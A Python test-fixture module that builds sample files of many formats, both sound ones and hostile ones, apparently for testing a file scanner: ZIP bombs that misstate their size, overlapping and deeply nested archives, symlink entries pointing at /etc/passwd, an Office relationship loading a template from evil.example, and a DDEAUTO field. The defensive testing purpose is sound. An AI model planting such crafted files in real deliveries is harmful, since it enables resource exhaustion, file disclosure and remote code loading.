"""Files for the tests: sound ones of every type, and what people try."""

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

OOXML_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package"></Types>'
TEMPLATE = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
    b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
UNPACKED = 8 * 1024 * 1024  # of few bytes: more than is taken of an archive so small
EICAR = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
DDE = b"<w:instrText>DDEAUTO c:\\windows</w:instrText>"


def zipped(entries: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_link(target: str = "/etc/passwd") -> bytes:
    """A ZIP archive with a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, target)
    return out.getvalue()


def zip_that_lies() -> bytes:
    """Its directory says that 10 bytes come out; far more do."""
    sound = zipped({"a": bytes(UNPACKED)})
    return sound.replace(struct.pack("<I", UNPACKED), struct.pack("<I", 10))


def zip_overlapping() -> bytes:
    """Two entries of the directory share their content."""
    sound = bytearray(zipped({"a": b"x" * 100, "b": b"x" * 100}, zipfile.ZIP_STORED))
    second = sound.rfind(b"PK\x01\x02")
    sound[second + 42 : second + 46] = bytes(4)
    return bytes(sound)


def tarred(*entries: tuple[str, bytes, bytes], mode: str = "w") -> bytes:
    """A tar archive of (name, type, content)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=tarfile.GNU_FORMAT) as archive:
        for name, kind, content in entries:
            entry = tarfile.TarInfo(name)
            entry.type, entry.size = kind, len(content)
            entry.linkname = "/etc/passwd" if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def png(width: int = 3, height: int = 2, *, after: bytes = b"") -> bytes:
    """A PNG that says it is so large."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 16)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + after


def jpeg(width: int = 3, height: int = 2) -> bytes:
    """The frame of a JPEG."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0"
        + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\xff\xd9"
    )  # fmt: skip


def gif(width: int = 3, height: int = 2) -> bytes:
    """A GIF."""
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + bytes(6) + b"\x3b"


def webp(width: int = 3, height: int = 2) -> bytes:
    """An extended WebP."""
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4)
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(inner: bytes = b"", *, compressed: bytes = b"") -> bytes:
    """A PDF with something in its catalogue, or in a compressed stream."""
    packed = zlib.compress(compressed)
    stream = b"2 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(packed), packed)
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog "
        + inner
        + b">>endobj\n"
        + stream
        + b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def office(part: str = "word/document.xml", **more: bytes) -> bytes:
    """An office document."""
    extra = {name.replace("__", "/").replace("_dot_", "."): content for name, content in more.items()}
    return zipped({"[Content_Types].xml": OOXML_TYPES, part: b"<document>Hello</document>"} | extra)


def tensors(header: object | None = None, data: bytes = bytes(16)) -> bytes:
    """A safetensors file."""
    told = header or {"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    raw = told if isinstance(told, bytes) else json.dumps(told).encode()
    return len(raw).to_bytes(8, "little") + raw + data


def gzipped(content: bytes) -> bytes:
    """A gzip file."""
    return gzip.compress(content, mtime=0)


def tgz(*entries: tuple[str, bytes, bytes]) -> bytes:
    """A compressed tar archive."""
    return gzipped(tarred(*entries))


def nested(depth: int) -> bytes:
    """A ZIP archive in a ZIP archive, and so on."""
    return zipped({"a.zip": nested(depth - 1) if depth else b"x"})


def tensor(dtype: str, rows: int) -> dict[str, object]:
    """A safetensors header of one tensor that says it has 16 bytes."""
    return {"w": {"dtype": dtype, "shape": [rows], "data_offsets": [0, 16]}}
